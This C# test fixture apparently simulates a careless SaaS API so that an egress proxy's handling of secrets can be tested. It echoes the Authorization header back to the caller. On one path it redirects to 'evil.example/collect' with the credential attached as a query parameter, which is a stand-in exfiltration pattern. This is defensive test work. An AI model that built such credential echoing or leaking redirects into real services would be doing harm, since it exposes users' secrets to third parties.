using System.Collections.Concurrent;
using System.Net;
using System.Security.Cryptography;
using System.Security.Cryptography.X509Certificates;
using Microsoft.AspNetCore.Builder;
using Microsoft.AspNetCore.Hosting;
using Microsoft.AspNetCore.Http;
using Microsoft.AspNetCore.Http.Features;
using Microsoft.Extensions.Logging;

namespace Fabric.Edge.Tests.Egress;

/// <summary>
/// A stand-in for a SaaS API an MCP server calls (GitHub, Slack): HTTPS on loopback with a certificate from its own test
/// CA (<see cref="CaFile"/>, what an egress target's <c>tls.caFile</c> names), recording every request as it arrived,
/// and careless in the way real APIs are: it echoes the Authorization header it got, in its body and in a header.
/// </summary>
public sealed class FakeSaasApi : IAsyncDisposable
{
    private readonly WebApplication _app;
    private readonly string _directory;

    public sealed record Received(string Method, string RawTarget, string? Authorization, IReadOnlyDictionary<string, string> Headers, string Body);

    private readonly ConcurrentQueue<Received> _received = new();

    private FakeSaasApi(WebApplication app, string directory, string caFile)
    {
        _app = app;
        _directory = directory;
        CaFile = caFile;
    }

    public string CaFile { get; }

    public Uri BaseUrl => new(_app.Urls.First());

    public IReadOnlyList<Received> Requests => [.. _received];

    public static async Task<FakeSaasApi> StartAsync()
    {
        var directory = Path.Combine(Path.GetTempPath(), "fake-saas-" + Guid.NewGuid().ToString("N"));
        Directory.CreateDirectory(directory);
        using var caKey = ECDsa.Create(ECCurve.NamedCurves.nistP256);
        var caRequest = new CertificateRequest("CN=Fake SaaS test CA", caKey, HashAlgorithmName.SHA256);
        caRequest.CertificateExtensions.Add(new X509BasicConstraintsExtension(true, false, 0, true));
        caRequest.CertificateExtensions.Add(new X509KeyUsageExtension(X509KeyUsageFlags.KeyCertSign, true));
        using var ca = caRequest.CreateSelfSigned(DateTimeOffset.UtcNow.AddMinutes(-5), DateTimeOffset.UtcNow.AddDays(1));
        var caFile = Path.Combine(directory, "ca.pem");
        await File.WriteAllTextAsync(caFile, ca.ExportCertificatePem());

        using var key = ECDsa.Create(ECCurve.NamedCurves.nistP256);
        var request = new CertificateRequest("CN=api.fake-saas.test", key, HashAlgorithmName.SHA256);
        var san = new SubjectAlternativeNameBuilder();
        san.AddDnsName("localhost");
        san.AddIpAddress(IPAddress.Loopback);
        request.CertificateExtensions.Add(san.Build());
        request.CertificateExtensions.Add(new X509EnhancedKeyUsageExtension([new Oid("1.3.6.1.5.5.7.3.1")], false));
        using var leaf = request.Create(ca, DateTimeOffset.UtcNow.AddMinutes(-1), DateTimeOffset.UtcNow.AddHours(12), [1, 2, 3, 4]);
        var certificate = X509CertificateLoader.LoadPkcs12(leaf.CopyWithPrivateKey(key).Export(X509ContentType.Pfx), null);

        var builder = WebApplication.CreateSlimBuilder();
        builder.Logging.ClearProviders();
        builder.WebHost.ConfigureKestrel(k => k.Listen(IPAddress.Loopback, 0, l => l.UseHttps(certificate)));
        var app = builder.Build();
        var api = new FakeSaasApi(app, directory, caFile);
        app.Run(async context =>
        {
            var raw = context.Features.Get<IHttpRequestFeature>()!.RawTarget;
            var body = await new StreamReader(context.Request.Body).ReadToEndAsync();
            var authorization = context.Request.Headers.Authorization.ToString();
            api._received.Enqueue(new Received(context.Request.Method, raw, authorization.Length == 0 ? null : authorization,
                context.Request.Headers.ToDictionary(h => h.Key, h => h.Value.ToString(), StringComparer.OrdinalIgnoreCase), body));
            context.Response.Headers["X-Echo-Authorization"] = authorization;
            if (raw.EndsWith("/gzip", StringComparison.Ordinal))
            {
                // An answer the edge cannot scan for the key it spliced.
                context.Response.Headers.ContentEncoding = "gzip";
            }
            if (raw.EndsWith("/redirect", StringComparison.Ordinal))
            {
                context.Response.StatusCode = StatusCodes.Status302Found;
                context.Response.Headers.Location = "https://evil.example/collect?key=" + authorization;
                return;
            }
            await context.Response.WriteAsJsonAsync(new { method = context.Request.Method, path = raw, youSentAuthorization = authorization });
        });
        await app.StartAsync();
        return api;
    }

    public async ValueTask DisposeAsync()
    {
        await _app.StopAsync();
        await _app.DisposeAsync();
        try
        {
            Directory.Delete(_directory, recursive: true);
        }
        catch (IOException)
        {
        }
    }
}
